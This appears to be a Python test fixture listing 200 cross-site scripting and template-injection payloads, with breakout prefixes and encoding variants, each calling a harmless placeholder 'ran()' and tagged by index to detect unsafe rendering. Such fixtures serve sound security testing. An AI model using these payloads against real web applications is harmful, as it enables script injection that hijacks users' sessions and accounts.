"""Two hundred texts that would run a script where they are taken for anything but text."""

from __future__ import annotations

__all__ = ["PAYLOADS", "marked"]

from itertools import product

CALL = "ran()"

BARE = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script/x>{call}</script x>",
    "<img src=x onerror={call}>",
    "<img/src='x'/onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<a autofocus href=# onfocus={call}>x</a>",
    "<x contenteditable autofocus onfocus={call} tabindex=1>x</x>",
    "<marquee onstart={call}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='javascript:{call}//'>",
    "<style onload={call}>x</style>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
)
"""Markup where text was to be."""

OUT_OF = ("", "\"'>", "</title></style></script></textarea></noscript></svg>", "]]>-->", "\u2028`--!>")
"""What is before it, to leave an attribute, an element whose content is text, a section or a comment."""

WORDS = (
    "' autofocus onfocus={call} x='",
    '" autofocus onfocus={call} x="',
    '" onload={call} onerror={call} src=x x="',
    "` onmouseover={call} `",
    "javascript:{call}",
    " \tjava\nscript:{call}",
    "JaVaScRiPt:{call}",
    "data:text/html,<script>{call}</script>",
    "vbscript:{call}",
    "{{{{ {call} }}}}",
    "{{{{ ''.__class__.__mro__ }}}}<script>{call}</script>",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "<!--#exec cmd='x'--><script>{call}</script>",
    "';{call};//",
    '";{call};//',
    "\\';{call};//",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<<script>{call}//<</script>",
    "<script>{call}",
    "</script><script>{call}</script>",
    "<!--<script>{call}</script>",
    "<![CDATA[<script>{call}</script>]]>",
    "]]><script>{call}</script>",
    "<?xml-stylesheet href='data:text/css,*{{x:expression({call})}}'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
    "<script xmlns='http://www.w3.org/2000/svg'>{call}</script>",
    "[x](javascript:{call})",
    '![x](x"onerror="{call})',
    "<javascript:{call}>",
    "datum['x']; {call}; //",
    '=HYPERLINK("javascript:{call}")',
    "@import 'javascript:{call}';",
    "*{{background:url(javascript:{call})}}",
    "\r\n\r\n<script>{call}</script>",
    "\u202e>tpircs/<{call}>tpircs<",
    "<script>{call}</script>\ufeff",
    "\U0001d499<img src=x onerror={call}>",
    "__proto__<script>{call}</script>",
)
"""Text that is left behind by other ways: quotes, templates, escapes, links, other formats."""

PAYLOADS = tuple(
    [out + bare.format(call=CALL) for out, bare in product(OUT_OF, BARE)] + [word.format(call=CALL) for word in WORDS]
)


def marked(place: int) -> str:
    """The payload at this place, so that what it is seen by on a page tells which it is."""
    return f"p{place} {PAYLOADS[place]}"
